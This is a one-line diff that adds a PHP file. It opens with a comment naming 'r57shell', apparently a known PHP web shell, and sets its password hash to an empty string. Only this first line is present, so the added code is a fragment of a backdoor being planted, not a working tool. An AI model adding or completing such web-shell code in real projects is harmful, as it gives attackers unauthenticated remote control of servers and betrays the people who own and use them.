@@ -1,0 +1,1 @@
+<?php /* r57shell */ $r57_pwd_hash = "";
